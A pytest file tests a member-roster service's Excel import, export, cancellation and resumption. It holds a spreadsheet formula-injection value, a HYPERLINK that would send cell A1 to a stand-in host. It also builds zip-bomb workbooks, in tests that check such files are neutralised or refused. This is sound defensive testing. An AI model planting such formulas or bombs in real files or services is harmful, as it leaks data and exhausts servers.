"""Excel import (mixed good and bad rows, a re-import, progress, cancelling), the template and the
export; spreadsheet bombs refused; reading a workbook leaves the eventlet hub free."""
import base64
import contextlib
import datetime as dt
import io
import re
import time
import zipfile

import eventlet

import pytest
import sqlalchemy as sa
from eventlet import tpool
from openpyxl import Workbook, load_workbook

from members import excel
from members.handlers import committees, imports, roster
from members.domain.roster import id_number_for
from members.models import Base, ImportJob, Member
from wuji_infra import workbook_limits
from wuji_infra.clock import FixedClock
from wuji_infra.errors import Conflict, InvalidInput, NotFound
from wuji_infra.testing import emitted_events, in_memory_store

BRANCH = "机关第一离退休党支部"
CLOCK = FixedClock(dt.date(2026, 11, 26))
NOW = dt.datetime(2026, 11, 26, 9, 0, tzinfo=dt.timezone.utc)



def workbook(rows, headings=None):
    book = Workbook()
    sheet = book.active
    sheet.append(headings or excel.HEADINGS)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    return base64.b64encode(buffer.getvalue()).decode("ascii")


def row(name="张建国", gender="男", id_number=None, born=dt.date(1942, 3, 15), branch=BRANCH, kind="退休", **cells):
    values = dict.fromkeys(excel.HEADINGS)
    values.update({"姓名": name, "性别": gender, "身份证号": id_number or id_number_for(born, 1), "出生日期": born,
                   "党支部": branch, "离退休类别": kind})
    values.update(cells)
    return [values[h] for h in excel.HEADINGS]


@pytest.fixture
def store():
    store = in_memory_store("members", Base.metadata)
    with store.transaction() as tx:
        committees.create_branch(tx, {"name": BRANCH, "unit": "市住房和城乡建设局"})
    return store


def run(store, content, chunk_rows=2):
    with store.transaction() as tx:
        job = imports.start_import(tx, content, "名册.xlsx", "clerk1")
    assert job["status"] == "queued" and job["progress"] == 0
    assert imports.run_next_import(store, chunk_rows, clock=CLOCK) == job["id"]
    with store.read() as session:
        return imports.get_import(session, job["id"])


def errors(store, job_id):
    with store.read() as session:
        return imports.list_import_errors(session, job_id, None, 1, 500)["items"]


def members(store):
    with store.read() as session:
        return roster.list_members(session, {}, 1, 500)["items"]


def test_good_rows_are_imported_and_bad_rows_listed_by_row_and_column(store):
    rows = [
        row("张建国", id_number=id_number_for(dt.date(1942, 3, 15), 1), **{"月养老金(元)": 6200.5, "专长": "城市规划、书法",
                                                                  "独居": "是", "愿意发挥作用": "是"}),
        row("李秀英", gender="女", id_number="11010519491231002X", born="1949-12-31", **{"组织关系": "转入社区",
                                                                                      "所在社区": "北山社区"}),
        row("王错号", id_number=id_number_for(dt.date(1940, 1, 1), 3)[:-1] + "0", born=dt.date(1940, 1, 1)),   # wrong check digit
        row("赵生日", id_number=id_number_for(dt.date(1940, 1, 1), 4), born=dt.date(1941, 1, 1)),             # birth date mismatch
        row("钱支部", id_number=id_number_for(dt.date(1943, 1, 1), 5), born=dt.date(1943, 1, 1), branch="不存在支部"),
        row("孙多错", gender="未知", id_number=id_number_for(dt.date(1944, 1, 1), 6), born=dt.date(1944, 1, 1),
            **{"独居": "也许", "组织关系": "转入社区"}),
        row("周数字", id_number=330106194501010070, born=dt.date(1945, 1, 1)),                         # typed as a number
        row("张重复", id_number=id_number_for(dt.date(1942, 3, 15), 1)),                                      # repeats row 2
        row("吴缺项", kind=None, id_number=id_number_for(dt.date(1946, 1, 1), 8), born=dt.date(1946, 1, 1)),
    ]
    job = run(store, workbook(rows))
    assert (job["status"], job["total_rows"], job["processed_rows"], job["progress"]) == ("done", 9, 9, 100)
    assert (job["created"], job["updated"], job["rejected"]) == (2, 0, 7)

    imported = {m["name"]: m for m in members(store)}
    assert set(imported) == {"张建国", "李秀英"}
    assert imported["张建国"]["pension_monthly"] == "6200.50" and imported["张建国"]["specialties"] == ["城市规划", "书法"]
    assert imported["张建国"]["lives_alone"] is True and imported["张建国"]["willing_to_serve"] is True
    assert imported["李秀英"]["id_number"] == "11010519491231002X" and imported["李秀英"]["community"] == "北山社区"

    found = {(e["row"], e["column"]) for e in errors(store, job["id"])}
    assert found == {
        (4, "身份证号"), (5, "身份证号"), (6, "党支部"), (7, "性别"), (7, "独居"),
        (8, "身份证号"), (9, "身份证号"), (10, "离退休类别"),
    }
    reasons = {(e["row"], e["column"]): e["reason"] for e in errors(store, job["id"])}
    assert "校验位" in reasons[(4, "身份证号")] and "不一致" in reasons[(5, "身份证号")]
    assert "文本" in reasons[(8, "身份证号")] and "第 2 行" in reasons[(9, "身份证号")]
    assert [e.event_type for e in emitted_events(store)] == ["member_registered", "member_registered",
                                                              "member_import_finished"]
    finished = emitted_events(store)[-1].data
    assert finished == {"job_id": job["id"], "status": "done", "filename": "名册.xlsx", "started_by": "clerk1",
                        "created": 2, "updated": 0, "rejected": 7}  # rows, not cells: row 7 has two
    with store.read() as session:
        history = roster.member_history(session, imported["张建国"]["id"])["items"]
    assert (history[0]["reason"], history[0]["changed_by"]) == ("import", "clerk1")


def test_the_rejected_rows_download_as_a_workbook_with_their_reasons(store):
    job = run(store, workbook([row("好人"), row("坏人", gender="?", id_number=id_number_for(dt.date(1940, 5, 5), 2),
                                                born=dt.date(1940, 5, 5))]))
    with store.read() as session:
        content = base64.b64decode(imports.import_errors_workbook(session, job["id"]))
    sheet = load_workbook(io.BytesIO(content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][0] == "原行号" and rows[0][-1] == "错误原因"
    assert len(rows) == 2 and rows[1][0] == 3 and rows[1][1] == "坏人" and "性别" in rows[1][-1]


def test_a_re_import_updates_the_member_with_that_id_number(store):
    first = run(store, workbook([row("张建国", **{"联系电话": "0571-1111111"})]))
    assert first["created"] == 1
    [member] = members(store)
    again = run(store, workbook([
        row("张建国", **{"联系电话": "13900001111", "组织关系": "转入社区", "所在社区": "北山社区"}),
        row("新党员", id_number=id_number_for(dt.date(1950, 6, 6), 2), born=dt.date(1950, 6, 6)),
    ]))
    assert (again["created"], again["updated"], again["rejected"]) == (1, 1, 0)
    updated = {m["name"]: m for m in members(store)}["张建国"]
    assert updated["id"] == member["id"] and updated["phone"] == "13900001111" and updated["org_relation"] == "community"
    assert len(members(store)) == 2
    kinds = [e.event_type for e in emitted_events(store)]
    assert kinds.count("member_updated") == 1 and kinds.count("member_transferred") == 1
    with store.read() as session:
        history = roster.member_history(session, member["id"])["items"]
    assert {(h["field"], h["new_value"]) for h in history if h["reason"] == "import" and h["field"] != "*"} == {
        ("phone", "13900001111"), ("org_relation", "community"), ("community", "北山社区")}
    unchanged = run(store, workbook([row("张建国", **{"联系电话": "13900001111", "组织关系": "转入社区",
                                                       "所在社区": "北山社区"})]))
    # nothing new said of the member: the second import only says it finished
    assert unchanged["updated"] == 1 and [e.event_type for e in emitted_events(store)] == kinds + ["member_import_finished"]


def test_a_job_resumes_after_the_last_committed_chunk(store):
    rows = [row(f"党员{i}", id_number=id_number_for(dt.date(1945, 1, 1), i), born=dt.date(1945, 1, 1)) for i in range(1, 6)]
    with store.transaction() as tx:
        job = imports.start_import(tx, workbook(rows), "x.xlsx")
    calls = {"n": 0}
    real = imports._import_chunk

    def crash_on_second_chunk(*args):
        calls["n"] += 1
        if calls["n"] == 2:
            raise RuntimeError("process killed")
        return real(*args)

    imports._import_chunk = crash_on_second_chunk
    try:
        with pytest.raises(RuntimeError):
            imports.run_next_import(store, chunk_rows=2, clock=CLOCK)
    finally:
        imports._import_chunk = real
    with store.read() as session:
        halfway = imports.get_import(session, job["id"])
    assert (halfway["status"], halfway["processed_rows"], halfway["progress"], halfway["created"]) == ("running", 2, 40, 2)
    imports.run_import(store, job["id"], chunk_rows=2, clock=CLOCK)
    with store.read() as session:
        done = imports.get_import(session, job["id"])
    assert (done["status"], done["created"], done["rejected"]) == ("done", 5, 0)
    assert len(members(store)) == 5
    with store.read() as session:
        assert session.get(ImportJob, job["id"]).content == b""   # the file is not kept once imported


def test_files_that_are_not_rosters_are_refused_at_once(store):
    for content, reason in [
        (base64.b64encode(b"not a workbook").decode(), "xlsx"),
        (workbook([], headings=["姓名", "性别"]), "身份证号"),
        ("", "必填"),
        ("%%%", "base64"),
    ]:
        with pytest.raises(InvalidInput) as error:
            with store.transaction() as tx:
                imports.start_import(tx, content)
        assert "file" in error.value.fields
        assert reason in str(error.value.fields["file"])
    assert imports.run_next_import(store, clock=CLOCK) is None
    with store.read() as session:
        with pytest.raises(NotFound):
            imports.get_import(session, 42)


def test_the_template_imports_as_it_is(store):
    job = run(store, imports.import_template())
    assert (job["created"], job["rejected"]) == (1, 0)
    [member] = members(store)
    assert member["id_number"] == "11010519491231002X" and member["specialties"] == ["城市规划", "书法"]


def test_the_export_holds_the_filtered_roster_and_reads_back_in(store):
    run(store, workbook([
        row("张建国", **{"专长": "书法"}),
        row("李秀英", gender="女", id_number=id_number_for(dt.date(1947, 2, 2), 2), born=dt.date(1947, 2, 2),
            **{"组织关系": "转入社区", "所在社区": "北山社区"}),
    ]))
    with store.read() as session:
        content = base64.b64decode(imports.export_members(session, {"org_relation": "community"}))
        everyone = base64.b64decode(imports.export_members(session, {}))
        with pytest.raises(InvalidInput):
            imports.export_members(session, {"colour": "red"})
    rows = list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))
    assert rows[0][:3] == ("姓名", "性别", "身份证号") and rows[0][-1] == "状态"
    assert [r[0] for r in rows[1:]] == ["李秀英"]
    assert rows[1][1] == "女" and rows[1][4] == BRANCH and rows[1][11] == "转入社区" and rows[1][-1] == "在册"
    # the export is a valid import: it updates the same two members
    job = run(store, base64.b64encode(everyone).decode())
    assert (job["created"], job["updated"], job["rejected"]) == (0, 2, 0)


FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"点击")'


def sheet_xml(content):
    import zipfile
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return "".join(archive.read(name).decode("utf-8") for name in archive.namelist()
                       if name.startswith("xl/worksheets/"))


@pytest.mark.parametrize("build", [
    lambda: excel.export([[FORMULA, "男", None, 3, "@SUM(1)"]]),
    lambda: excel.rejected(["姓名", "性别"], [(2, [FORMULA, "+1"], {"姓名": ["不能为公式"]})]),
])
def test_text_that_looks_like_a_formula_is_written_as_text(build):
    content = build()
    assert "<f>" not in sheet_xml(content)
    cells = [cell for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2) for cell in row]
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert FORMULA in [cell.value for cell in texts]
    assert all(cell.data_type == "s" for cell in texts)


@pytest.mark.parametrize("build", [excel.template, lambda: excel.export([]), lambda: excel.rejected(excel.HEADINGS, [])])
def test_a_written_workbook_shows_whole_id_numbers_and_dates_under_headings_that_stay(build):
    sheet = load_workbook(io.BytesIO(build())).active
    widths = {cell.value: sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]}
    assert widths["身份证号"] >= 20 and widths["出生日期"] >= 11 and widths["党支部"] >= 20
    assert sheet.freeze_panes == "A2" and sheet.print_title_rows == "$1:$1"


# -- spreadsheet bombs ------------------------------------------------------------------


def bomb(rows, row_xml="<row/>", dimension=""):
    """An .xlsx of the headings and then ``rows`` rows of ``row_xml``, streamed into the zip (small in memory).

    ``dimension`` replaces the sheet's declared size (``<dimension ref="A1:X2"/>``); empty: none declared.
    """
    book = Workbook()
    book.active.append(excel.HEADINGS)
    plain = io.BytesIO()
    book.save(plain)
    source = zipfile.ZipFile(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename != "xl/worksheets/sheet1.xml":
                target.writestr(item.filename, data)
                continue
            head, tail = data.decode().split("</row>", 1)
            head = re.sub(r'<dimension ref="[^"]*" ?/>', dimension, head)
            with target.open(item.filename, "w") as stream:
                stream.write((head + "</row>").encode())
                for start in range(0, rows, 100_000):
                    stream.write(row_xml.encode() * min(100_000, rows - start))
                stream.write(tail.encode())
    return base64.b64encode(out.getvalue()).decode("ascii")


def queue(store, content, filename="名册.xlsx"):
    with store.transaction() as tx:
        return imports.start_import(tx, content, filename, "clerk1")


def refused_at_upload(store, content):
    with pytest.raises(InvalidInput) as error:
        queue(store, content, "炸弹.xlsx")
    assert error.value.message.startswith("炸弹.xlsx: ")
    return error.value.fields["file"][0]


def job_now(store, job_id):
    with store.read() as session:
        return imports.get_import(session, job_id)


def test_a_zip_bomb_of_empty_rows_is_refused_by_its_compression_ratio(store):
    content = bomb(2_000_000)  # 12 MB of <row/> in about 12 KB
    assert len(content) < 40_000
    started = time.perf_counter()
    reason = refused_at_upload(store, content)
    assert "压缩比" in reason and "over 100:1" in reason
    assert time.perf_counter() - started < 1  # read from the zip directory: nothing is parsed


def test_a_file_that_expands_past_the_limit_is_refused(store, monkeypatch):
    monkeypatch.setattr(workbook_limits, "MAX_UNCOMPRESSED_BYTES", 200_000)
    content = workbook([row(id_number=id_number_for(dt.date(1942, 3, 15), n % 1000)) for n in range(2000)])
    reason = refused_at_upload(store, content)
    assert re.fullmatch(r"解压后为 ([\d.]+) MiB, 超过 0.2 MiB \(it expands to \1 MiB, over 0.2 MiB\)", reason), reason


def test_a_sheet_declaring_millions_of_rows_is_refused_at_upload(store):
    reason = refused_at_upload(store, bomb(3, dimension='<dimension ref="A1:X4000001"/>'))
    assert "超过 20000 行" in reason and "more than 20,000 rows" in reason


def test_rows_are_counted_as_read_when_no_size_is_declared(store):
    job = queue(store, bomb(20_001))  # 120 KB uncompressed: too small for the ratio check
    assert imports.run_next_import(store, clock=CLOCK) == job["id"]
    failed = job_now(store, job["id"])
    assert failed["status"] == "failed"
    assert failed["error"] == "名册.xlsx: 超过 20000 行, 请分成多个文件导入 (more than 20,000 rows: split the file)"
    with store.read() as session:
        assert roster.list_members(session, {}, 1, 20)["total"] == 0


def test_one_row_far_below_the_headings_counts_the_rows_it_skips(store):
    job = queue(store, bomb(1, row_xml='<row r="4000000"/>'))
    imports.run_next_import(store, clock=CLOCK)
    assert "more than 20,000 rows" in job_now(store, job["id"])["error"]


def test_twenty_thousand_rows_are_allowed(store):
    workbook_limits.check_row_count(20_001)
    with pytest.raises(workbook_limits.Refused):
        workbook_limits.check_row_count(20_002)


# -- cancelling ---------------------------------------------------------------------

def six_rows():
    return workbook([row(f"党员{n}", id_number=id_number_for(dt.date(1942, 3, 15), n)) for n in range(1, 7)])


class CancelAfter:
    """The store, with the job cancelled (in a transaction of its own) once ``commits`` transactions have ended."""

    def __init__(self, store, job_id, commits):
        self.store, self.job_id, self.commits = store, job_id, commits
        self.read = store.read

    @contextlib.contextmanager
    def transaction(self):
        with self.store.transaction() as tx:
            yield tx
        self.commits -= 1
        if self.commits == 0:
            with self.store.transaction() as tx:
                self.cancelled = imports.cancel_import(tx, self.job_id, NOW, "clerk2")


def test_a_running_import_stops_at_its_next_chunk_and_keeps_what_it_committed(store):
    job = queue(store, six_rows())
    claimed = imports._claim_next(store, NOW)
    running = CancelAfter(store, claimed, commits=2)  # the total, then the first chunk of two rows
    imports.run_import(running, claimed, chunk_rows=2, clock=CLOCK)
    assert running.cancelled["status"] == "cancelled"
    cancelled = job_now(store, job["id"])
    assert (cancelled["status"], cancelled["processed_rows"], cancelled["created"]) == ("cancelled", 2, 2)
    assert "clerk2" in cancelled["error"] and "rows already committed stay" in cancelled["error"]
    with store.read() as session:
        assert roster.list_members(session, {}, 1, 20)["total"] == 2
    assert imports.run_next_import(store, clock=CLOCK) is None  # never taken up again


def test_a_queued_import_cancelled_never_runs_and_an_ended_one_cannot_be_cancelled(store):
    job = queue(store, six_rows())
    with store.transaction() as tx:
        assert imports.cancel_import(tx, job["id"], NOW, "clerk2")["status"] == "cancelled"
    assert imports.run_next_import(store, clock=CLOCK) is None
    with pytest.raises(Conflict) as error:
        with store.transaction() as tx:
            imports.cancel_import(tx, job["id"], NOW, "clerk2")
    assert "已取消" in error.value.message
    done = queue(store, six_rows())
    imports.run_next_import(store, clock=CLOCK)
    with pytest.raises(Conflict):
        with store.transaction() as tx:
            imports.cancel_import(tx, done["id"], NOW, "clerk2")


# -- the service's loop stays free --------------------------------------------------

def test_reading_a_workbook_in_a_thread_leaves_the_hub_answering():
    """What the job does (tpool.execute(excel.read_rows, ...)): other greenlets keep running meanwhile."""
    content = base64.b64decode(workbook([row(f"党员{n}") for n in range(3000)]))
    ticks = []

    def tick():
        while True:
            ticks.append(time.perf_counter())
            eventlet.sleep(0.005)

    ticker = eventlet.spawn(tick)
    eventlet.sleep(0)
    started = time.perf_counter()
    _, rows = tpool.execute(excel.read_rows, content)
    took = time.perf_counter() - started
    ticker.kill()
    assert len(rows) == 3000
    # read on the hub, the ticker could not run until the read was over; how often it ran is a
    # matter of speed (bench/import_ping.py measures it), that it ran at all is not
    assert any(started < t < started + took for t in ticks), (took, ticks)


def test_the_import_takes_the_day_a_member_counts_from_and_refuses_a_day_to_come(store):
    job = run(store, workbook([
        row("张建国", **{"入册日期": dt.date(2018, 5, 1)}),
        row("李秀英", id_number=id_number_for(dt.date(1947, 2, 2), 2), born=dt.date(1947, 2, 2)),
        row("王五", id_number=id_number_for(dt.date(1940, 2, 2), 3), born=dt.date(1940, 2, 2),
            **{"入册日期": dt.date(2099, 1, 1)}),
    ]))
    assert (job["created"], job["rejected"]) == (2, 1)
    with store.read() as session:
        rows = dict(session.execute(sa.select(Member.name, Member.counts_from)).all())
    assert rows == {"张建国": dt.date(2018, 5, 1), "李秀英": CLOCK.today()}
